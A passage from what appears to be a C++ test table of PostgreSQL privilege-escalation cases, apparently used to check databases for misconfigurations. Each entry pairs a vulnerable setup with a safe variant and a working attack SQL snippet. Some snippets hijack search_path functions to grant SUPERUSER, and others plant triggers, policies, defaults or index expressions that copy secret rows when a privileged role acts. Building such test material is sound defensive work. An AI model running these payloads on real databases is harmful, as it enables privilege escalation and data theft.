CREATE FUNCTION safe.f(x record) RETURNS record LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN IF x IS NULL THEN RETURN NULL; END IF; RETURN NULL; END $$; ALTER FUNCTION safe.f(record) OWNER TO {r}boss;)x",
         .to = "{r}boss",
         .does = R"x(BEGIN; CREATE TYPE s.t AS ENUM ('a');
CREATE FUNCTION s.tt(s.t) RETURNS json LANGUAGE plpgsql AS $$ BEGIN IF current_user = '{r}boss' THEN RAISE NOTICE 'gained'; END IF; RETURN '1'; END $$;
CREATE CAST (s.t AS json) WITH FUNCTION s.tt(s.t);
SELECT safe.f(ROW('a'::s.t));
ROLLBACK;)x"},
        {.id = "ESC-SECDEF",
         .since = 12,
         .certain = false,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE TABLE safe.log (i int, j jsonb); GRANT INSERT ON safe.log TO {r}boss; GRANT USAGE ON SCHEMA safe TO {r}boss;
CREATE FUNCTION safe.audit() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN INSERT INTO safe.log VALUES (NEW.i, NULL); RETURN NEW; END $$; ALTER FUNCTION safe.audit() OWNER TO {r}boss;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE TABLE safe.log (i int, j jsonb); GRANT INSERT ON safe.log TO {r}boss; GRANT USAGE ON SCHEMA safe TO {r}boss;
CREATE FUNCTION safe.audit() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN INSERT INTO safe.log VALUES (1, NULL); RETURN NEW; END $$; ALTER FUNCTION safe.audit() OWNER TO {r}boss;)x",
         .to = "{r}boss",
         .does = R"x(BEGIN; CREATE TYPE s.t AS (a int);
CREATE FUNCTION s.tt(s.t) RETURNS int LANGUAGE plpgsql AS $$ BEGIN IF current_user = '{r}boss' THEN RAISE NOTICE 'gained'; END IF; RETURN '1'; END $$;
CREATE CAST (s.t AS int) WITH FUNCTION s.tt(s.t) AS IMPLICIT;
CREATE TABLE s.x (i s.t); CREATE TRIGGER a AFTER INSERT ON s.x FOR EACH ROW EXECUTE FUNCTION safe.audit();
INSERT INTO s.x VALUES (ROW(1));
ROLLBACK;)x"},
        {.id = "ESC-SECDEF",
         .since = 12,
         .certain = false,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE FUNCTION safe.touch() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN NEW.at := now(); RETURN NEW; END $$; ALTER FUNCTION safe.touch() OWNER TO {r}boss;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE FUNCTION safe.touch() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN NEW.at := now(); RETURN NEW; END $$; ALTER FUNCTION safe.touch() OWNER TO {r}boss; REVOKE EXECUTE ON FUNCTION safe.touch() FROM PUBLIC;)x",
         .to = "{r}boss",
         .does =
             R"x(BEGIN; CREATE FUNCTION s.chk(timestamptz) RETURNS bool LANGUAGE plpgsql AS $$ BEGIN IF current_user = '{r}boss' THEN RAISE NOTICE 'gained'; END IF; RETURN true; END $$;
CREATE DOMAIN s.d AS timestamptz CHECK (s.chk(VALUE));
CREATE TABLE s.x (i int, at s.d); CREATE TRIGGER a BEFORE INSERT ON s.x FOR EACH ROW EXECUTE FUNCTION safe.touch();
INSERT INTO s.x VALUES (1, NULL);
ROLLBACK;)x"},
        {.id = "ESC-SECDEF",
         .since = 12,
         .certain = false,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE FUNCTION safe.touch() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN SELECT now() INTO NEW.at; RETURN NEW; END $$; ALTER FUNCTION safe.touch() OWNER TO {r}boss;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE FUNCTION safe.touch() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN RETURN NEW; END $$; ALTER FUNCTION safe.touch() OWNER TO {r}boss;)x",
         .to = "{r}boss",
         .does =
             R"x(BEGIN; CREATE FUNCTION s.chk(timestamptz) RETURNS bool LANGUAGE plpgsql AS $$ BEGIN IF current_user = '{r}boss' THEN RAISE NOTICE 'gained'; END IF; RETURN true; END $$;
CREATE DOMAIN s.d AS timestamptz CHECK (s.chk(VALUE));
CREATE TABLE s.x (i int, at s.d); CREATE TRIGGER a BEFORE INSERT ON s.x FOR EACH ROW EXECUTE FUNCTION safe.touch();
INSERT INTO s.x VALUES (1, NULL);
ROLLBACK;)x"},
        {.id = "ESC-SECDEF",
         .since = 12,
         .certain = false,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE FUNCTION safe.f(c refcursor) RETURNS record LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ DECLARE r record; BEGIN FETCH c INTO r; RETURN r; END $$; ALTER FUNCTION safe.f(refcursor) OWNER TO {r}boss;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE FUNCTION safe.f(c refcursor) RETURNS record LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ DECLARE r record; BEGIN OPEN c FOR SELECT 1; FETCH c INTO r; RETURN r; END $$; ALTER FUNCTION safe.f(refcursor) OWNER TO {r}boss;)x",
         .to = "{r}boss",
         .does =
             R"x(CREATE FUNCTION s.me() RETURNS text LANGUAGE plpgsql AS $$ BEGIN IF current_user = '{r}boss' THEN RAISE NOTICE 'gained'; END IF; RETURN 'x'; END $$; GRANT EXECUTE ON FUNCTION s.me() TO PUBLIC;
BEGIN; DECLARE c CURSOR FOR SELECT s.me(); SELECT safe.f('c'); COMMIT;)x"},
        {.id = "ESC-SECDEF",
         .since = 12,
         .extension = "tablefunc",
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC; CREATE EXTENSION tablefunc SCHEMA safe;
CREATE FUNCTION safe.run(what text) RETURNS text LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp
AS $$ SELECT x.b FROM safe.crosstab(what) AS x (a text, b text) LIMIT 1 $$;
ALTER FUNCTION safe.run(text) OWNER TO {r}boss;
)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC; CREATE EXTENSION tablefunc SCHEMA safe;
CREATE FUNCTION safe.run(what text) RETURNS text LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp
AS $$ SELECT x.b FROM safe.crosstab('SELECT ''a''::pg_catalog.text, ''b''::pg_catalog.text, ''c''::pg_catalog.text') AS x (a text, b text) LIMIT 1 $$;
ALTER FUNCTION safe.run(text) OWNER TO {r}boss;
)x",
         .to = "{r}boss",
         .does = "SELECT safe.run('SELECT ''a''::text, ''b''::text, ''gained''::text WHERE "
                 "current_user = ''{r}boss''');"},
        {.id = "ESC-SEARCHPATH",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT CREATE ON SCHEMA pg_catalog TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC;)x",
         .to = "superuser",
         .does =
             R"x(CREATE FUNCTION pg_catalog.lower(varchar) RETURNS text LANGUAGE plpgsql AS $$
BEGIN ALTER ROLE {r}app SUPERUSER; RETURN 'x'; END $$;
)x",
         .victim_is = "{super}",
         .victim = "SELECT lower('X'::varchar);",
         .then = "SELECT 'gained' FROM pg_authid LIMIT 1;",
         .reset = "ALTER ROLE {r}app NOSUPERUSER; DROP FUNCTION IF EXISTS "
                  "pg_catalog.lower(varchar);"},
        {.id = "ESC-SEARCHPATH",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
GRANT CREATE ON SCHEMA public TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
)x",
         .to = "superuser",
         .does = R"x(CREATE FUNCTION public.lower(varchar) RETURNS text LANGUAGE plpgsql AS $$
BEGIN ALTER ROLE {r}app SUPERUSER; RETURN 'x'; END $$;
)x",
         .victim_is = "{super}",
         .victim = "SELECT lower('X'::varchar);",
         .then = "SELECT 'gained' FROM pg_authid LIMIT 1;",
         .reset = "ALTER ROLE {r}app NOSUPERUSER; DROP FUNCTION IF EXISTS public.lower(varchar);"},
        {.id = "ESC-SEARCHPATH",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
GRANT SELECT ON public.secret TO {r}boss;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
SET ROLE {r}app;
CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
RESET ROLE;
CREATE SCHEMA {r}boss; GRANT USAGE ON SCHEMA {r}boss TO PUBLIC; GRANT CREATE ON SCHEMA {r}boss TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
GRANT SELECT ON public.secret TO {r}boss;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
SET ROLE {r}app;
CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
RESET ROLE;
CREATE SCHEMA {r}boss; GRANT USAGE ON SCHEMA {r}boss TO PUBLIC;)x",
         .to = "{r}boss",
         .does = "CREATE FUNCTION {r}boss.lower(varchar) RETURNS text LANGUAGE sql AS 'SELECT "
                 "s.steal()::text';",
         .victim_is = "{r}boss",
         .victim = "SELECT lower('X'::varchar);",
         .then = "SELECT 'gained' FROM s.loot LIMIT 1;",
         .reset = "DROP FUNCTION IF EXISTS {r}boss.lower(varchar); TRUNCATE s.loot;"},
        {.id = "ESC-TRIGGER",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
GRANT SELECT ON public.secret TO {r}boss;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
SET ROLE {r}app;
CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
RESET ROLE;
GRANT INSERT ON s.t TO {r}boss;
SET ROLE {r}app; CREATE TABLE s.t2 (a int); GRANT UPDATE, SELECT ON s.t2 TO {r}boss;
CREATE TABLE s.t3 (a int); GRANT INSERT (a), SELECT (a) ON s.t3 TO {r}boss;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
GRANT SELECT ON public.secret TO {r}boss;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
SET ROLE {r}app;
CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
RESET ROLE;
)x",
         .to = "{r}boss",
         .does = "CREATE TRIGGER x BEFORE INSERT ON s.t FOR EACH ROW EXECUTE FUNCTION s.steal_t();",
         .victim_is = "{r}boss",
         .victim = "INSERT INTO s.t VALUES (2);",
         .then = "SELECT 'gained' FROM s.loot LIMIT 1;",
         .reset = "DROP TRIGGER IF EXISTS x ON s.t; TRUNCATE s.loot;"},
        {.id = "ESC-TRIGGER",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
GRANT SELECT ON public.secret TO {r}boss;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
SET ROLE {r}app;
CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
RESET ROLE;
CREATE TABLE public.u (a int); ALTER TABLE public.u OWNER TO {r}boss; GRANT TRIGGER ON public.u TO {r}app;
CREATE TABLE public.u2 (a int); ALTER TABLE public.u2 OWNER TO {r}boss; GRANT TRIGGER ON public.u2 TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
GRANT SELECT ON public.secret TO {r}boss;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
SET ROLE {r}app;
CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
RESET ROLE;
CREATE TABLE public.u (a int); ALTER TABLE public.u OWNER TO {r}boss; GRANT INSERT ON public.u TO {r}app;)x",
         .to = "{r}boss",
         .does = "CREATE TRIGGER x BEFORE INSERT ON public.u FOR EACH ROW EXECUTE FUNCTION "
                 "s.steal_t();",
         .victim_is = "{r}boss",
         .victim = "INSERT INTO public.u VALUES (2);",
         .then = "SELECT 'gained' FROM s.loot LIMIT 1;",
         .reset = "DROP TRIGGER IF EXISTS x ON public.u; TRUNCATE s.loot;"},
        {.id = "ESC-POLICY",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
GRANT SELECT ON public.secret TO {r}boss;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
SET ROLE {r}app;
CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
RESET ROLE;
GRANT SELECT ON s.t TO {r}boss;
SET ROLE {r}app; CREATE TABLE s.t2 (a int); GRANT UPDATE, SELECT ON s.t2 TO {r}boss;
CREATE TABLE s.t3 (a int); GRANT INSERT (a), SELECT (a) ON s.t3 TO {r}boss;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
GRANT SELECT ON public.secret TO {r}boss;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
SET ROLE {r}app;
CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
RESET ROLE;
)x",
         .to = "{r}boss",
         .does = R"x(CREATE POLICY x ON s.t USING (s.steal() > 0);
ALTER TABLE s.t ENABLE ROW LEVEL SECURITY;)x",
         .victim_is = "{r}boss",
         .victim = "TABLE s.t;",
         .then = "SELECT 'gained' FROM s.loot LIMIT 1;",
         .reset = "DROP POLICY IF EXISTS x ON s.t; TRUNCATE s.loot;"},
        {.id = "ESC-DEFAULT",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
GRANT SELECT ON public.secret TO {r}boss;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
SET ROLE {r}app;
CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
RESET ROLE;
GRANT INSERT ON s.t TO {r}boss;
SET ROLE {r}app; CREATE TABLE s.t2 (a int); GRANT UPDATE, SELECT ON s.t2 TO {r}boss;
CREATE TABLE s.t3 (a int); GRANT INSERT (a), SELECT (a) ON s.t3 TO {r}boss;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
GRANT SELECT ON public.secret TO {r}boss;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
SET ROLE {r}app;
CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
RESET ROLE;
)x",
         .to = "{r}boss",
         .does = "ALTER TABLE s.t ALTER COLUMN b SET DEFAULT s.steal();",
         .victim_is = "{r}boss",
         .victim = "INSERT INTO s.t (a) VALUES (2);",
         .then = "SELECT 'gained' FROM s.loot LIMIT 1;",
         .reset = "ALTER TABLE s.t ALTER COLUMN b DROP DEFAULT; TRUNCATE s.loot;"},
        {.id = "ESC-INDEX-EXPR",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
GRANT SELECT ON public.secret TO {r}boss;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
SET ROLE {r}app;
CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
RESET ROLE;
GRANT INSERT ON s.t TO {r}boss;
SET ROLE {r}app; CREATE TABLE s.t2 (a int); GRANT UPDATE, SELECT ON s.t2 TO {r}boss;
CREATE TABLE s.t3 (a int); GRANT INSERT (a), SELECT (a) ON s.t3 TO {r}boss;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
GRANT SELECT ON public.secret TO {r}boss;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
SET ROLE {r}app;
CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
RESET ROLE;
)x",
         .to = "{r}boss",
         .does = R"x(CREATE FUNCTION s.odd(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM s.steal(); RETURN $1; EXCEPTION WHEN insufficient_privilege THEN RETURN $1; END $$;
CREATE INDEX x ON s.t (s.odd(a));)x",
         .victim_is = "{r}boss",
         .victim = "INSERT INTO s.t VALUES (2);",
         .then = "SELECT 'gained' FROM s.loot LIMIT 1;",
         .reset = "DROP INDEX IF EXISTS s.x; DROP FUNCTION IF EXISTS s.odd(int); TRUNCATE s.loot;"},
        {.id = "ESC-INDEX-EXPR",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss LOGIN BYPASSRLS;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s; GRANT USAGE ON SCHEMA s TO PUBLIC; GRANT CREATE ON SCHEMA s TO {r}app;
CREATE TABLE s.loot (a text); GRANT INSERT, SELECT ON s.loot TO PUBLIC;
CREATE TABLE s.t AS SELECT 1 AS a; ALTER TABLE s.t OWNER TO {r}app;
CREATE FUNCTION s.steal(int) RETURNS int LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot VALUES (current_user); RETURN 1; END $$;
CREATE FUNCTION s.odd(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM s.steal(1); RETURN 1; END $$;
GRANT SELECT ON s.t TO {r}boss;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss LOGIN BYPASSRLS;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s; GRANT USAGE ON SCHEMA s TO PUBLIC; GRANT CREATE ON SCHEMA s TO {r}app;
CREATE TABLE s.loot (a text); GRANT INSERT, SELECT ON s.loot TO PUBLIC;
CREATE TABLE s.t AS SELECT 1 AS a; ALTER TABLE s.t OWNER TO {r}boss;
CREATE FUNCTION s.steal(int) RETURNS int LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot VALUES (current_user); RETURN 1; END $$;
CREATE FUNCTION s.odd(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM s.steal(1); RETURN 1; END $$;
)x",
         .to = "{r}boss",
         .does = "CREATE INDEX x ON s.t ((a + s.odd(1)));",
         .victim_is = "{r}boss",
         .victim = "TABLE s.t;",
         .then = "SELECT 'gained' FROM s.loot WHERE a = '{r}boss' LIMIT 1;",
         .reset = "DROP INDEX IF EXISTS s.x; TRUNCATE s.loot;"},
        {.id = "ESC-REFERENCES",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
